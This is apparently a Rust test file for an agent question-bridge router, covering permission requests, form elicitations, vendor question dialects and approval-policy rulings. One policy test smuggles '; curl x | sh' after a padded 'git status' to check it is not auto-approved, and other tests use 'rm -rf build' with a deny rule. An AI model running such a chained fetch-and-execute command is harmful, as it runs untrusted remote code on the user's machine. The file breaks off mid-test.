//! Router tests of the question sources beyond the extension: the agent's own permission
//! requests and form elicitations, tracked on every surface and answered once.

use serde_json::{json, Value};

use crate::events::By;
use crate::questions::prompts::Style;
use crate::router::fixture::{msg, parse, Fixture};
use crate::router::{ControlError, RouterConfig};

/// What a client showing the agent's own request (and tool call) is sent when the question
/// is answered elsewhere: the tool call marked done with the answer in its title (its content
/// is the agent's, and stays), and the sentence in the chat.
fn marked_done(session: &str, tool_call: &str, title: &str, sentence: &str) -> [String; 2] {
    [
        msg::notification(
            "session/update",
            json!({"sessionId":session,"update":{"sessionUpdate":"tool_call_update",
                "toolCallId":tool_call,"title":title,"status":"completed"}}),
        ),
        msg::notification(
            "session/update",
            json!({"sessionId":session,"update":{"sessionUpdate":"agent_message_chunk",
                "content":{"type":"text","text":format!("\n[acp-question-bridge] {sentence}\n")}}}),
        ),
    ]
}

fn observed() -> RouterConfig {
    RouterConfig {
        events: true,
        ..RouterConfig::default()
    }
}

fn permission(id: Value) -> String {
    msg::request(
        id,
        "session/request_permission",
        json!({
            "sessionId": "s1",
            "toolCall": {"toolCallId": "tc-1", "title": "rm -rf build", "kind": "execute",
                         "rawInput": {"command": "rm -rf build"}},
            "options": [
                {"optionId": "allow", "name": "Allow", "kind": "allow_once"},
                {"optionId": "reject", "name": "Reject", "kind": "reject_once"}
            ]
        }),
    )
}

#[test]
fn a_permission_request_naming_its_tool_call_by_id_is_listed_with_what_was_announced() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(json!({})));
    t.take_agent();
    let announce = msg::notification(
        "session/update",
        json!({"sessionId":"s1","update":{"sessionUpdate":"tool_call","toolCallId":"tc-9",
            "title":"Terminal","kind":"execute","rawInput":{},"status":"pending"}}),
    );
    let detail = msg::notification(
        "session/update",
        json!({"sessionId":"s1","update":{"sessionUpdate":"tool_call_update","toolCallId":"tc-9",
            "title":"cargo publish","rawInput":{"command":"cargo publish"}}}),
    );
    let chunk = msg::notification(
        "session/update",
        json!({"sessionId":"s1","update":{"sessionUpdate":"agent_message_chunk",
            "content":{"type":"text","text":"about to publish"}}}),
    );
    let ask = msg::request(
        json!(3),
        "session/request_permission",
        json!({"sessionId":"s1","toolCall":{"toolCallId":"tc-9"},"options":[
            {"optionId":"allow","name":"Allow","kind":"allow_once"},
            {"optionId":"reject","name":"Reject","kind":"reject_once"}]}),
    );
    for line in [&announce, &detail, &chunk, &ask] {
        t.agent(line);
    }
    assert_eq!(
        t.take_client(),
        [announce, detail, chunk, ask],
        "all forwarded, byte-identical"
    );
    let v = serde_json::to_value(&t.r.question_views()[0]).unwrap();
    assert_eq!(
        v["context"]["toolCall"],
        json!({"toolCallId":"tc-9","title":"cargo publish","kind":"execute",
            "rawInput":{"command":"cargo publish"}})
    );
    assert_eq!(v["items"][0]["prompt"], "cargo publish", "{v}");
}

#[test]
fn a_tool_approval_goes_to_the_client_as_sent_and_is_listed_with_its_command() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(json!({})));
    t.take_agent();
    let ask = permission(json!(7));
    t.agent(&ask);
    assert_eq!(t.take_client(), [ask], "byte-identical");
    let views = t.r.question_views();
    assert_eq!(views.len(), 1);
    let v = serde_json::to_value(&views[0]).unwrap();
    assert_eq!(v["source"], "permission");
    assert_eq!(v["dialect"], "native");
    assert_eq!(v["questionId"], "permission:7");
    assert_eq!(
        v["context"]["toolCall"]["rawInput"]["command"],
        "rm -rf build"
    );
    assert_eq!(v["items"][0]["options"][1]["kind"], "reject_once");
    // The client's answer reaches the agent unchanged; observers see what it means.
    let answer = msg::result(
        json!(7),
        json!({"outcome":{"outcome":"selected","optionId":"allow"}}),
    );
    t.client(&answer);
    assert_eq!(t.take_agent(), [answer]);
    let resolved = t
        .take_events()
        .into_iter()
        .find(|e| e["event"] == "resolved")
        .unwrap();
    assert_eq!(resolved["by"], "client");
    assert_eq!(
        resolved["result"],
        json!({"status":"answered","answers":[["allow"]]})
    );
    assert!(t.r.question_views().is_empty());
}

#[test]
fn a_tool_approval_answered_from_the_control_server_is_withdrawn_at_the_client() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(json!({})));
    t.agent(&permission(json!("p-1")));
    t.take_client();
    t.take_agent();
    // A bad answer is refused and the question stays pending.
    assert!(t
        .r
        .control_answer(
            "s1",
            "permission:\"p-1\"",
            &json!([["maybe"]]),
            None,
            &mut t.out
        )
        .is_err());
    assert_eq!(t.r.question_views().len(), 1);
    let got =
        t.r.control_answer(
            "s1",
            "permission:\"p-1\"",
            &json!([["Reject"]]),
            None,
            &mut t.out,
        )
        .unwrap();
    assert_eq!(got, json!({"status":"answered","answers":[["reject"]]}));
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!("p-1"),
            json!({"outcome":{"outcome":"selected","optionId":"reject"}})
        )]
    );
    // No `$/cancel_request` (no client handles it), and the tool call is the tool's own
    // (the agent reports its status): the chat says what was answered, and where.
    assert_eq!(
        t.take_client(),
        [marked_done(
            "s1",
            "tc-1",
            "rm -rf build → Reject",
            "The question \"rm -rf build\" was answered on the Questions page or CLI: Reject."
        )[1]
        .clone()]
    );
    // The client's own answer, now late, is dropped.
    t.client(&msg::error(json!("p-1"), -32800, "Request cancelled"));
    assert!(t.take_agent().is_empty());
    let by: Vec<Value> = t
        .take_events()
        .into_iter()
        .filter(|e| e["event"] == "resolved" || e["event"] == "late_answer")
        .map(|e| e["by"].clone())
        .collect();
    assert_eq!(by, [json!(By::Control.as_str()), Value::Null]);
}

#[test]
fn a_declined_tool_approval_picks_the_reject_option_and_a_cancelled_session_cancels() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(json!({})));
    t.take_agent();
    t.agent(&permission(json!(1)));
    t.r.control_reject("s1", "permission:1", None, None, &mut t.out)
        .unwrap();
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!(1),
            json!({"outcome":{"outcome":"selected","optionId":"reject"}})
        )]
    );
    t.agent(&permission(json!(2)));
    t.take_client();
    t.client(&msg::session_cancel("s1"));
    let to_agent = t.take_agent();
    assert_eq!(to_agent[0], msg::session_cancel("s1"));
    assert_eq!(
        parse(&to_agent[1]),
        json!({"jsonrpc":"2.0","id":2,"result":{"outcome":{"outcome":"cancelled"}}})
    );
}

fn claude_form(id: Value) -> String {
    msg::request(
        id,
        "elicitation/create",
        json!({"sessionId":"s1","toolCallId":"toolu_1","mode":"form","message":"Which database?",
            "requestedSchema":{"type":"object","properties":{
                "question_0":{"type":"string","title":"Database","oneOf":[
                    {"const":"SQLite","title":"SQLite"},{"const":"Postgres","title":"Postgres"}]},
                "question_0_custom":{"type":"string","title":"Other"}}}}),
    )
}

#[test]
fn a_form_goes_as_sent_to_a_client_that_renders_forms_and_the_control_server_can_answer_it() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(json!({"elicitation":{"form":{}}})));
    t.take_agent();
    let ask = claude_form(json!(3));
    t.agent(&ask);
    assert_eq!(t.take_client(), [ask]);
    let v = serde_json::to_value(&t.r.question_views()[0]).unwrap();
    assert_eq!(v["source"], "form");
    assert_eq!(
        v["items"].as_array().unwrap().len(),
        1,
        "Other is a box, not an item"
    );
    assert_eq!(v["items"][0]["prompt"], "Which database?");
    t.r.control_answer(
        "s1",
        "elicitation:3",
        &json!([["SQLite"]]),
        None,
        &mut t.out,
    )
    .unwrap();
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!(3),
            json!({"action":"accept","content":{"question_0":"SQLite"}})
        )]
    );
    assert_eq!(
        t.take_client(),
        marked_done(
            "s1",
            "toolu_1",
            "Which database? → SQLite",
            "The question \"Which database?\" was answered on the Questions page or CLI: SQLite."
        )
    );
}

#[test]
fn a_claude_form_shown_as_the_extension_takes_one_value() {
    let mut t = Fixture::native(RouterConfig {
        advertise_elicitation: true,
        ..observed()
    });
    t.agent(&claude_form(json!(4)));
    let shown = parse(&t.take_client()[0]);
    assert_eq!(shown["method"], crate::questions::METHOD);
    let questions = shown["params"]["questions"].as_array().unwrap();
    assert_eq!(questions.len(), 1);
    assert_eq!(questions[0]["question"], "Which database?");
    let id = shown["id"].clone();
    t.client(&msg::answered(id.clone(), json!([["SQLite"]])));
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!(4),
            json!({"action":"accept","content":{"question_0":"SQLite"}})
        )]
    );
    // Free text goes to the Other box.
    t.agent(&claude_form(json!(5)));
    let id = parse(&t.take_client()[0])["id"].clone();
    t.client(&msg::answered(id, json!([["DuckDB"]])));
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!(5),
            json!({"action":"accept","content":{"question_0_custom":"DuckDB"}})
        )]
    );
}

#[test]
fn the_agents_own_cancel_of_a_request_shown_as_sent_stays_between_agent_and_client() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(json!({})));
    t.take_agent();
    t.agent(&permission(json!(9)));
    t.take_client();
    let cancel = msg::cancel_request(json!(9));
    t.agent(&cancel);
    assert_eq!(t.take_client(), [cancel]);
    assert!(
        t.take_agent().is_empty(),
        "the client answers it, not the bridge"
    );
    let reply = msg::error(json!(9), -32800, "Request cancelled");
    t.client(&reply);
    assert_eq!(t.take_agent(), [reply]);
}

#[test]
fn several_single_select_items_reach_a_permission_only_client_one_prompt_at_a_time() {
    let mut t = Fixture::new(RouterConfig {
        permission_prompts: Some(Style::List),
        ..observed()
    });
    t.client(&msg::initialize(json!({})));
    t.take_agent();
    t.agent(&msg::ask(
        json!(1),
        json!({"sessionId": "s1", "questionId": "q", "questions": [
            {"question": "Which DB?", "options": ["pg", "sqlite"]},
            {"question": "Which day?", "options": ["mon", "fri"]}]}),
    ));
    let first: Vec<Value> = t.take_client().iter().map(|l| parse(l)).collect();
    assert_eq!(first[0]["params"]["update"]["sessionUpdate"], "tool_call");
    let tc = first[0]["params"]["update"]["toolCallId"].clone();
    assert_eq!(first[1]["params"]["toolCall"]["title"], "(1/2) Which DB?");
    t.client(&msg::result(
        first[1]["id"].clone(),
        json!({"outcome": {"outcome": "selected", "optionId": "sqlite"}}),
    ));
    assert!(t.take_agent().is_empty(), "one more item to ask");
    let second: Vec<Value> = t.take_client().iter().map(|l| parse(l)).collect();
    assert_eq!(
        second[0]["params"]["update"]["sessionUpdate"],
        "tool_call_update"
    );
    assert_eq!(second[0]["params"]["update"]["toolCallId"], tc);
    assert_eq!(second[1]["params"]["toolCall"]["title"], "(2/2) Which day?");
    assert_ne!(second[1]["id"], first[1]["id"]);
    t.client(&msg::result(
        second[1]["id"].clone(),
        json!({"outcome": {"outcome": "selected", "optionId": "fri"}}),
    ));
    assert_eq!(
        t.take_agent(),
        [msg::answered(json!(1), json!([["sqlite"], ["fri"]]))]
    );
    let closed = parse(&t.take_client()[0]);
    assert_eq!(closed["params"]["update"]["status"], "completed");
    // A cancel at any step cancels the whole question.
    t.agent(&msg::ask(
        json!(2),
        json!({"sessionId": "s1", "questionId": "q2", "questions": [
            {"question": "A?", "options": ["a", "b"]},
            {"question": "B?", "options": ["c", "d"]}]}),
    ));
    let id = parse(&t.take_client()[1])["id"].clone();
    t.client(&msg::result(
        id,
        json!({"outcome": {"outcome": "cancelled"}}),
    ));
    assert_eq!(t.take_agent(), [msg::rejected(json!(2), "cancelled")]);
}

#[test]
fn a_claude_question_reaches_a_permission_only_client_on_the_agents_tool_call() {
    let mut t = Fixture::new(RouterConfig {
        advertise_elicitation: true,
        hold_unsupported: true,
        permission_prompts: Some(Style::List),
        ..observed()
    });
    t.client(&msg::initialize(json!({})));
    t.take_agent();
    t.agent(&claude_form(json!(6)));
    let shown: Vec<Value> = t.take_client().iter().map(|l| parse(l)).collect();
    // The IDE already shows Claude's tool call: the prompt updates it.
    assert_eq!(
        shown[0]["params"]["update"]["sessionUpdate"],
        "tool_call_update"
    );
    assert_eq!(shown[0]["params"]["update"]["toolCallId"], "toolu_1");
    assert_eq!(shown[1]["params"]["toolCall"]["toolCallId"], "toolu_1");
    assert_eq!(shown[1]["params"]["toolCall"]["title"], "Which database?");
    t.client(&msg::result(
        shown[1]["id"].clone(),
        json!({"outcome": {"outcome": "selected", "optionId": "SQLite"}}),
    ));
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!(6),
            json!({"action":"accept","content":{"question_0":"SQLite"}})
        )]
    );
}

fn grok_ask(id: Value) -> String {
    msg::request(
        id,
        "_x.ai/ask_user_question",
        json!({"sessionId": "s1", "toolCallId": "call_7", "mode": "default",
            "questions": [{"question": "Which database?", "multiSelect": false,
                "options": [{"label": "SQLite"}, {"label": "Postgres"}]}]}),
    )
}

#[test]
fn a_vendor_question_is_translated_for_a_client_that_does_not_know_it() {
    // A native-extension client: the extension request, the answer in Grok's shape.
    let mut t = Fixture::native(observed());
    t.agent(&grok_ask(json!(1)));
    let shown = parse(&t.take_client()[0]);
    assert_eq!(shown["method"], crate::questions::METHOD);
    assert_eq!(
        shown["params"]["questions"][0]["question"],
        "Which database?"
    );
    t.client(&msg::answered(shown["id"].clone(), json!([["DuckDB"]])));
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!(1),
            json!({"outcome":"accepted","answers":{"Which database?":["Other"]},
                   "annotations":{"Which database?":{"notes":"DuckDB"}}})
        )]
    );
    let v = serde_json::to_value(t.take_events()).unwrap();
    assert_eq!(v[0]["question"]["source"], "grok");
    // A permission-only client: the prompt, on Grok's own tool call.
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(json!({})));
    t.take_agent();
    t.agent(&grok_ask(json!(2)));
    let shown: Vec<Value> = t.take_client().iter().map(|l| parse(l)).collect();
    assert_eq!(shown[1]["method"], "session/request_permission");
    assert_eq!(shown[1]["params"]["toolCall"]["toolCallId"], "call_7");
    t.r.control_reject("s1", "x.ai/ask_user_question:2", None, None, &mut t.out)
        .unwrap();
    assert_eq!(
        t.take_agent(),
        [msg::result(json!(2), json!({"outcome":"cancelled"}))]
    );
}

#[test]
fn a_vendor_question_goes_as_sent_to_a_client_that_advertised_it_and_falls_back_on_32601() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(
        json!({"elicitation": {"form": {}}, "_meta": {"x.ai/ask_user_question": true}}),
    ));
    t.take_agent();
    let ask = grok_ask(json!(3));
    t.agent(&ask);
    assert_eq!(t.take_client(), [ask]);
    // It did not know it after all: asked again as a form.
    t.client(&msg::error(json!(3), -32601, "Method not found"));
    let shown = parse(&t.take_client()[0]);
    assert_eq!(shown["method"], "elicitation/create");
    assert_eq!(shown["params"]["toolCallId"], "call_7");
    let field = shown["params"]["requestedSchema"]["properties"]
        .as_object()
        .unwrap()
        .keys()
        .next()
        .unwrap()
        .clone();
    t.client(&msg::result(
        shown["id"].clone(),
        json!({"action": "accept", "content": {field: "Postgres"}}),
    ));
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!(3),
            json!({"outcome":"accepted","answers":{"Which database?":["Postgres"]}})
        )]
    );
}

#[test]
fn a_cursor_question_belongs_to_the_session_whose_prompt_is_in_flight() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(
        json!({"_meta": {"cursor/ask_question": {}}}),
    ));
    t.client(&msg::request(
        json!(5),
        "session/prompt",
        json!({"sessionId": "cursor-s", "prompt": []}),
    ));
    t.take_agent();
    let ask = msg::request(
        json!(8),
        "cursor/ask_question",
        json!({"toolCallId": "tc", "title": "Quick question",
            "questions": [{"id": "q1", "prompt": "Tabs or spaces?",
                "options": [{"id": "tabs", "label": "Tabs"}, {"id": "spaces", "label": "Spaces"}],
                "allowMultiple": false}]}),
    );
    t.agent(&ask);
    assert_eq!(t.take_client(), [ask], "the client advertised it");
    let v = serde_json::to_value(&t.r.question_views()[0]).unwrap();
    assert_eq!(v["sessionId"], "cursor-s");
    assert_eq!(v["source"], "cursor");
    t.r.control_answer(
        "cursor-s",
        "cursor/ask_question:8",
        &json!([["Spaces"]]),
        None,
        &mut t.out,
    )
    .unwrap();
    assert_eq!(
        t.take_agent(),
        [msg::result(
            json!(8),
            json!({"outcome":{"outcome":"answered","answers":[{"questionId":"q1","selectedOptionIds":["spaces"]}]}})
        )]
    );
    assert_eq!(
        t.take_client(),
        marked_done(
            "cursor-s",
            "tc",
            "Tabs or spaces? → Spaces",
            "The question \"Tabs or spaces?\" was answered on the Questions page or CLI: Spaces."
        )
    );
}

#[test]
fn an_opencode_question_ends_rejected_at_the_clients_eof() {
    let mut t = Fixture::native(observed());
    t.agent(&msg::request(
        json!(4),
        "opencode/question",
        json!({"requestId": "r", "sessionId": "s1", "questions": [
            {"header": "Go", "question": "Continue?", "options": [{"label": "Yes"}, {"label": "No"}], "multiple": false}]}),
    ));
    t.take_client();
    t.client_eof();
    assert_eq!(
        t.take_agent(),
        [
            msg::result(json!(4), json!({"rejected": true})),
            "<close>".to_owned()
        ]
    );
}

#[test]
fn a_vendor_request_the_agent_cancelled_is_answered_in_its_own_shape_at_eof() {
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(
        json!({"_meta": {"x.ai/ask_user_question": true}}),
    ));
    t.take_agent();
    t.agent(&grok_ask(json!(9)));
    t.take_client();
    t.agent(&msg::cancel_request(json!(9)));
    assert_eq!(t.take_client(), [msg::cancel_request(json!(9))]);
    // The client never answers; at its EOF the agent still gets one reply, Grok's.
    t.client_eof();
    assert_eq!(
        t.take_agent(),
        [
            msg::result(json!(9), json!({"outcome": "cancelled"})),
            "<close>".to_owned()
        ]
    );
}

/// Adding a vendor is its module and one line in `VENDORS`: the test-only `test/ask`
/// (`questions::sources::testing`) is routed, read, shown, answered in its own shape, taken
/// natively by a client that names it, and ended in its own shape, with nothing else
/// written for it.
#[test]
fn a_vendor_added_as_one_module_and_one_line_is_asked_and_answered_everywhere() {
    let ask = |id: Value, method: &str| {
        msg::request(
            id,
            method,
            json!({"sessionId": "s1", "text": "Name the database"}),
        )
    };
    // A client that knows only the extension: shown as the extension, answered as the vendor.
    let mut t = Fixture::native(observed());
    t.agent(&ask(json!(1), "_test/ask"));
    let shown = parse(&t.take_client()[0]);
    assert_eq!(shown["method"], crate::questions::METHOD);
    assert_eq!(
        shown["params"]["questions"][0]["question"],
        "Name the database"
    );
    t.client(&msg::answered(shown["id"].clone(), json!([["DuckDB"]])));
    assert_eq!(
        t.take_agent(),
        [msg::result(json!(1), json!({"said": "DuckDB"}))]
    );
    let v = serde_json::to_value(t.take_events()).unwrap();
    assert_eq!(v[0]["question"]["source"], "test");
    // A client that names the method gets it as sent; at its EOF the agent gets the
    // vendor's own cancelled result.
    let mut t = Fixture::new(observed());
    t.client(&msg::initialize(json!({"_meta": {"test/ask": true}})));
    t.take_agent();
    let sent = ask(json!(2), "test/ask");
    t.agent(&sent);
    assert_eq!(t.take_client(), [sent]);
    t.client_eof();
    assert_eq!(
        t.take_agent(),
        [
            msg::result(json!(2), json!({"said": null})),
            "<close>".to_owned()
        ]
    );
}

const DIALECTS: &str = include_str!("../../docs/AGENT-DIALECTS.md");

#[test]
fn every_vendor_source_names_the_method_it_is_registered_under() {
    let params = json!({"sessionId": "s1", "text": "t", "questions": [{"question": "q",
        "id": "a", "prompt": "p", "options": [{"id": "x", "label": "X"}]}], "plan": "p"});
    for v in crate::questions::sources::VENDORS {
        let (_, source, _) = (v.parse)(&params, "id".into(), "s1")
            .unwrap_or_else(|| panic!("{} reads its sample", v.method));
        assert_eq!(source.method(), v.method);
        assert_eq!(
            crate::questions::sources::vendor(&format!("_{}", v.method)).map(|x| x.method),
            Some(v.method)
        );
        // The contract the registry implements is written down (the test vendor is not).
        if v.method != crate::questions::sources::testing::VENDOR.method {
            assert!(
                DIALECTS.contains(v.method),
                "docs/AGENT-DIALECTS.md: {}",
                v.method
            );
        }
    }
}

/// The approval policy reads a permission request's own tool call, never what was announced
/// under its id (kept cut to a digest, or stale): a request that names its tool call by id
/// alone is asked, even when the announcement's command is one a rule allows.
#[test]
fn the_policy_decides_on_the_requests_own_tool_call_only() {
    let mut t = Fixture::with_policy(
        observed(),
        "[[rule]]\nid = \"git\"\ndecision = \"allow\"\ncommand = [\"git\", \"status\"]\n",
    );
    t.client(&msg::initialize(json!({})));
    t.take_agent();
    let padded = format!("git status {}; curl x | sh", "a".repeat(20_000));
    let announce = msg::notification(
        "session/update",
        json!({"sessionId":"s1","update":{"sessionUpdate":"tool_call","toolCallId":"tc-1",
            "title":"Terminal","kind":"execute","rawInput":{"command": padded},"status":"pending"}}),
    );
    let by_id = msg::request(
        json!(3),
        "session/request_permission",
        json!({"sessionId":"s1","toolCall":{"toolCallId":"tc-1"},"options":[
            {"optionId":"allow","name":"Allow","kind":"allow_once"},
            {"optionId":"reject","name":"Reject","kind":"reject_once"}]}),
    );
    t.agent(&announce);
    t.agent(&by_id);
    assert_eq!(t.take_client(), [announce, by_id.clone()], "asked, as sent");
    assert!(t.take_agent().is_empty(), "not answered by the policy");
    // The same tool call given whole in the request: the rule allows it.
    let whole = msg::request(
        json!(4),
        "session/request_permission",
        json!({"sessionId":"s1","toolCall":{"toolCallId":"tc-2","kind":"execute",
            "rawInput":{"command":"git status"}},"options":[
            {"optionId":"allow","name":"Allow","kind":"allow_once"},
            {"optionId":"reject","name":"Reject","kind":"reject_once"}]}),
    );
    t.agent(&whole);
    let to_agent = t.take_agent();
    assert_eq!(to_agent.len(), 1, "{to_agent:?}");
    assert!(
        to_agent[0].contains(r#""optionId":"allow""#),
        "{to_agent:?}"
    );
}

/// A policy that denies `rm` (the command of [`permission`]).
const DENY_RM: &str = "[[rule]]\nid = \"no-rm\"\ndecision = \"deny\"\ncommand = [\"rm\"]\n";

/// A router whose shell is slow: a tool approval waits for its ruling.
fn deciding() -> Fixture {
    let mut t = Fixture::with_policy(observed(), DENY_RM).deferred();
    t.client(&msg::initialize(json!({})));
    t.agent(&msg::result(json!(0), json!({"protocolVersion": 1})));
    t.take_agent();
    t.take_client();
    t.agent(&permission(json!(3)));
    assert!(t.take_client().is_empty(), "not shown before its ruling");
    assert!(t.take_agent().is_empty(), "not answered before its ruling");
    t
}

/// The router asks the shell for the decision and does none itself: the approval waits,
/// then the ruling answers it.
#[test]
fn a_tool_approval_is_decided_by_the_shell_and_answered_when_its_ruling_comes() {
    let mut t = deciding();
    assert!(
        matches!(
            t.out.effects.as_slice(),
            [crate::router::Effect::Decide { .. }]
        ),
        "{:?}",
        t.out.effects
    );
    t.run_effects();
    let to_agent = t.take_agent();
    assert_eq!(to_agent.len(), 1, "{to_agent:?}");
    assert!(
        to_agent[0].contains(r#""optionId":"reject""#),
        "{to_agent:?}"
    );
    assert!(t.r.questions().is_empty());
}

/// While it waits for its ruling, an approval ends like any question, exactly once: a
/// ruling that comes after is dropped.
#[test]
fn an_approval_waiting_for_its_ruling_ends_like_a_question_and_its_late_ruling_is_dropped() {
    // session/cancel: the agent gets ACP's cancelled outcome.
    let mut t = deciding();
    t.client(&msg::session_cancel("s1"));
    let to_agent = t.take_agent();
    assert_eq!(
        to_agent.len(),
        2,
        "the cancel, then the answer: {to_agent:?}"
    );
    assert_eq!(
        parse(&to_agent[1]),
        json!({"jsonrpc":"2.0","id":3,"result":{"outcome":{"outcome":"cancelled"}}})
    );
    t.run_effects();
    assert!(t.take_agent().is_empty(), "the late ruling is dropped");
    let to_client = t.take_client();
    assert!(to_client.is_empty(), "{to_client:?}");

    // The client's EOF: answered on its behalf, before the agent's stdin closes.
    let mut t = deciding();
    t.client_eof();
    let to_agent = t.take_agent();
    assert_eq!(
        parse(&to_agent[0]),
        json!({"jsonrpc":"2.0","id":3,"result":{"outcome":{"outcome":"cancelled"}}})
    );
    assert_eq!(to_agent.last().map(String::as_str), Some("<close>"));
    t.run_effects();
    assert!(t.take_agent().is_empty(), "the late ruling is dropped");

    // The agent's $/cancel_request: -32800.
    let mut t = deciding();
    t.agent(&msg::cancel_request(json!(3)));
    assert_eq!(
        t.take_agent(),
        [msg::error(json!(3), -32800, "Request cancelled")]
    );
    t.run_effects();
    assert!(t.take_agent().is_empty(), "the late ruling is dropped");

    // The agent gone: nothing to answer, nothing shown.
    let mut t = deciding();
    t.agent_gone(&crate::router::AgentExit {
        code: Some(0),
        signal: None,
        stderr_tail: String::new(),
    });
    t.run_effects();
    assert!(t.take_agent().is_empty());
    let to_client = t.take_client();
    assert!(to_client.is_empty(), "{to_client:?}");
}

/// An id that waits for its ruling is in use: a second request under it is not taken for
/// a new question.
#[test]
fn an_id_waiting_for_its_ruling_is_in_use() {
    let mut t = deciding();
    t.agent(&msg::ask(
        json!(3),
        json!({"sessionId":"s1","questionId":"q","prompt":"p","options":["a","b"]}),
    ));
    let to_agent = t.take_agent();
    assert_eq!(to_agent.len(), 1, "{to_agent:?}");
    assert_eq!(parse(&to_agent[0])["error"]["code"], -32600, "{to_agent:?}");
    t.run_effects();
    assert_eq!(
        t.take_agent().len(),
        1,
        "the approval still gets its ruling"
    );
}

/// A tool approval (id 3, session `s1`) of the shell command `command`.
fn approval_of(command: &str) -> String {
    msg::request(
        json!(3),
        "session/request_permission",
        json!({"sessionId":"s1","toolCall":{"toolCallId":"tc-1","kind":"execute",
            "rawInput":{"command":command}},"options":[
            {"optionId":"allow","name":"Allow","kind":"allow_once"},
            {"optionId":"reject","name":"Reject","kind":"reject_once"}]}),
    )
}

/// Found by review: a ruling answers only the decision it was asked for. An agent that
/// cancels an approval and asks another under the same id must not get the first one's
/// ruling (an allow of `git status`) for the second (`rm -rf build`).
#[test]
fn a_ruling_never_answers_another_approval_under_the_same_id() {
    let allow_git =
        "[[rule]]\nid = \"git\"\ndecision = \"allow\"\ncommand = [\"git\", \"status\"]\n";
    let mut t = Fixture::with_policy(observed(), allow_git).deferred();
    t.client(&msg::initialize(json!({})));
    t.agent(&msg::result(json!(0), json!({"protocolVersion": 1})));
    t.take_agent();
    t.take_client();
    t.agent(&approval_of("git status"));
    t.agent(&msg::cancel_request(json!(3)));
    assert_eq!(
        t.take_agent(),
        [msg::error(json!(3), -32800, "Request cancelled")]
    );
    let second = approval_of("rm -rf build");
    t.agent(&second);
    // Both rulings come back now: the first (an allow) is not the second's.
    t.run_effects();
    assert!(t.take_agent().is_empty(), "rm -rf build is not allowed");
    assert_eq!(t.take_client(), [second], "it is asked");
}

/// Found by review: an "Always allow" answer goes, after its rule is written, only to the
/// question that was checked. When that approval ends and the agent asks another command under
/// the same id meanwhile (so the same question id), the user's allow does not reach it.
#[test]
fn an_always_allow_answer_never_reaches_an_approval_asked_again_under_the_same_id() {
    let mut t = Fixture::with_policy(observed(), DENY_RM);
    t.client(&msg::initialize(json!({})));
    t.agent(&msg::result(json!(0), json!({"protocolVersion": 1})));
    t.take_agent();
    t.agent(&approval_of("git status"));
    t.take_client();
    let qid = t.r.question_views()[0].question_id.clone();
    let remember: crate::policy::remember::Remember =
        serde_json::from_value(json!({"agent": "this", "place": "everywhere"})).unwrap();
    let answers = json!([["allow"]]);
    let token =
        t.r.control_remember("s1", &qid, &answers, remember, &mut t.out)
            .expect("git status can be remembered");
    // While the rule is written, the approval ends (here a session/cancel) and the agent
    // asks another command under the same id.
    t.client(&msg::session_cancel("s1"));
    t.agent(&approval_of("tar cf x.tar ."));
    t.take_agent();
    assert_eq!(
        t.r.question_views()[0].question_id,
        qid,
        "the same question id"
    );
    let answered =
        t.r.control_answer_remembered(token, "s1", &qid, &answers, None, &mut t.out);
    assert!(
        matches!(answered, Err(ControlError::Invalid(_))),
        "{answered:?}"
    );
    assert!(
        t.take_agent().is_empty(),
        "the new approval is not answered"
    );
    // The question that was checked gets its answer.
    let mut t2 = Fixture::with_policy(observed(), DENY_RM);
    t2.client(&msg::initialize(json!({})));
    t2.agent(&msg::result(json!(0), json!({"protocolVersion": 1})));
    t2.agent(&approval_of("git status"));
    t2.take_agent();
    let token =
        t2.r.control_remember("s1", &qid, &answers, remember, &mut t2.out)
            .unwrap();
    t2.r.control_answer_remembered(token, "s1", &qid, &answers, None, &mut t2.out)
        .expect("answered");
    assert!(t2.take_agent()[0].contains(r#""optionId":"allow""#));
}

/// Claude Code's Bash keeps its folder between calls: the approval of its next command is
/// decided with the commands that may have moved the session's shell before it (its own
/// left out), and only for a tool that keeps its folder.
#[test]
fn an_approval_of_a_bash_command_is_decided_with_what_moved_its_shell_before() {
    let mut t = deciding();
    t.run_effects();
    t.take_agent();
    let bash = |id: &str, command: &str| {
        json!({"toolCallId": id, "title": command, "kind": "execute",
               "_meta": {"claudeCode": {"toolName": "Bash"}}, "rawInput": {"command": command}})
    };
    for (id, command) in [("t1", "cd sub && ls"), ("t2", "git status")] {
        let mut update = bash(id, command);
        update["sessionUpdate"] = json!("tool_call");
        t.agent(&msg::notification(
            "session/update",
            json!({"sessionId": "s1", "update": update}),
        ));
    }
    let ask = |id: Value, tool_call: Value| {
        msg::request(
            id,
            "session/request_permission",
            json!({"sessionId": "s1", "toolCall": tool_call, "options": [
                {"optionId": "allow", "name": "Allow", "kind": "allow_once"},
                {"optionId": "reject", "name": "Reject", "kind": "reject_once"}]}),
        )
    };
    t.agent(&ask(json!(4), bash("t3", "cd docs && git fetch")));
    let shell_of = |effects: &[crate::router::Effect]| match effects {
        [crate::router::Effect::Decide { call, .. }] => call.shell.clone(),
        other => panic!("{other:?}"),
    };
    // After a `cd`, every later command of the session counts (it may rename a folder).
    let shell = shell_of(&t.out.effects);
    assert_eq!(shell.moved_by, ["cd sub && ls", "git status"]);
    assert!(!shell.lost);
    t.run_effects();
    // The next one sees that approval's own `cd` too; a tool that runs each command in a
    // shell of its own (Codex's exec) is decided where the session is.
    t.agent(&ask(json!(5), bash("t4", "make")));
    assert_eq!(
        shell_of(&t.out.effects).moved_by,
        ["cd sub && ls", "git status", "cd docs && git fetch"]
    );
    t.run_effects();
    t.agent(&ask(
        json!(6),
        json!({"toolCallId": "c1", "kind": "execute", "rawInput": {"command": "make"}}),
    ));
